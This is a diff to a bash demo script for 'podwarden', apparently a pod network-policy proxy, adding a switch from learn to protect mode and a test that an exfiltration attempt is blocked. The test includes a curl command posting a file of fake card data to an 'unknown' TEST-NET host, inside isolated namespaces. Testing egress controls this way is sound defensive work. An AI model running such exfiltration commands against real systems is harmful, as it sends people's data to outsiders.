@@ -1,10 +1,12 @@
 #!/usr/bin/env bash
 # podwarden demo: a pod in network namespaces, the proxy in front of a real app
-# and real servers, traffic from real clients, and the flows it recorded.
+# and real servers, traffic from real clients, the flows it recorded in learn
+# mode, then the same pod switched to protect by rewriting its policy file: an
+# allowed call still works, an exfiltration attempt is refused before it leaves.
 #
 #   client ─┐            ┌─ server  198.51.100.10 (HTTP :8000, HTTPS :8443, redis :6379)
 #           ├─ router ───┤
-#   pod   ──┘            └─ unknown 203.0.113.10  (nothing should reach it but TCP via the proxy)
+#   pod   ──┘            └─ unknown 203.0.113.10  (the exfiltration target: HTTP :8000)
 #   192.0.2.10: app (HTTP :8080, UID 1000) + podwarden-proxy (UID 1337) + init rules
 #
 # Only TEST-NET addresses; the router has no route out. Everything is removed at exit.
@@ -101,8 +103,19 @@ bg app pod 1000 "$PY" -m http.server 8080 --bind :: --directory "$work/app"
 for p in 8000 8443 6379; do wait_port server $p; done
 wait_port pod 8080
 
-say "starting podwarden-proxy in the pod as UID 1337, then applying init"
-bg proxy pod 1337 "$BIN" run --admin-addr 127.0.0.1:15000 --workload demo --pod demo-pod
+say "starting podwarden-proxy in the pod as UID 1337 (policy file in learn mode), then applying init"
+policy() { # MODE VERSION, rules (YAML list items) on stdin
+  { printf 'apiVersion: podwarden.io/v1alpha1\nkind: WorkloadPolicy\n'
+    printf 'metadata: { workload: demo/app, version: %s }\n' "$2"
+    printf 'spec:\n  mode: %s\n  rules:\n' "$1"
+    cat; } >"$work/policy.tmp"
+  chmod 644 "$work/policy.tmp"
+  mv "$work/policy.tmp" "$work/policy.yaml" # atomic, as a ConfigMap update is
+}
+echo "    []" | policy learn 1
+sed 's/^/  /' "$work/policy.yaml"
+bg proxy pod 1337 "$BIN" run --admin-addr 127.0.0.1:15000 --workload demo/app --pod demo-pod \
+  --policy-file "$work/policy.yaml"
 for p in 15001 15006 15000; do wait_port pod $p; done
 ns pod "$BIN" init --dns-resolver "$SERVER"
 echo "rules in the pod (nat and filter, ours only):"
@@ -156,6 +169,40 @@ PYEOF
 
 say "metrics (excerpt of /metrics)"
 ns pod curl -sS --max-time 5 http://127.0.0.1:15000/metrics | grep -E '^podwarden_' | grep -v ' 0$' | head -20 | sed 's/^/  /'
+
+say "switching the pod to protect: the reviewed allowlist, written over the policy file"
+policy protect 2 <<RULES
+    - { id: web, note: the API, direction: outbound, peer: { cidr: $SERVER/32 }, ports: ["8000", "8443"] }
+    - { id: web-v6, note: the API over IPv6, direction: outbound, peer: { cidr: "2001:db8:2::10/128" }, ports: ["8000"] }
+    - { id: cache, note: redis, direction: outbound, peer: { cidr: $SERVER/32 }, ports: ["6379"] }
+    - { id: ingress, note: clients of the app, direction: inbound, peer: { cidr: 192.0.2.64/26 }, ports: ["8080"] }
+RULES
+sed 's/^/  /' "$work/policy.yaml"
+echo "  (no restart: the proxy polls the file every 2 s; SIGHUP works too)"
+for _ in $(seq 100); do
+  grep -q '"kind":"policy_reload","result":"ok","version":2' "$work/proxy.log" && break
+  sleep 0.1
+done
+grep -E '"kind":"(policy_reload|mode_change)"' "$work/proxy.log" | grep -v '"version":1' | grep -E 'policy_reload|"feature":"network"' | sed 's/^/  event: /'
+
+say "protect: the allowed calls still work"
+run app curl -sS --max-time 5 "http://$SERVER:8000/hello.txt"
+run app redis-cli -h "$SERVER" GET podwarden
+
+say "protect: an exfiltration attempt to an unknown IP is refused"
+echo "card=4111111111111111" >"$work/loot.txt"
+chmod 644 "$work/loot.txt"
+mkdir -p "$work/evil"
+bg evil unknown - "$PY" -m http.server 8000 --bind :: --directory "$work/evil"
+wait_port unknown 8000
+ns unknown iptables -A INPUT -p tcp --dport 8000 -m comment --comment demo-exfil
+run app curl -sS --max-time 5 --data-binary @"$work/loot.txt" "http://$UNKNOWN:8000/upload"
+echo
+ns unknown iptables -nvxL INPUT | awk '/demo-exfil/ {printf "  unknown host received %s TCP packet(s) on :8000\n", $1}'
+echo "  unknown host's web server logged $(grep -c upload "$work/evil.log" || true) request(s) for /upload"
+echo "  the violation event (the proxy prints one JSON line per event on stdout):"
+for _ in $(seq 20); do grep -q "\"kind\":\"violation\".*$UNKNOWN:8000" "$work/proxy.log" && break; sleep 0.1; done
+grep '"kind":"violation"' "$work/proxy.log" | grep "$UNKNOWN:8000" | head -1 | "$PY" -m json.tool | sed 's/^/    /'
 
 if [ "${KEEP:-0}" = 1 ]; then
   read -r -p "namespaces $S-* are up; press Enter to clean up " _ || true
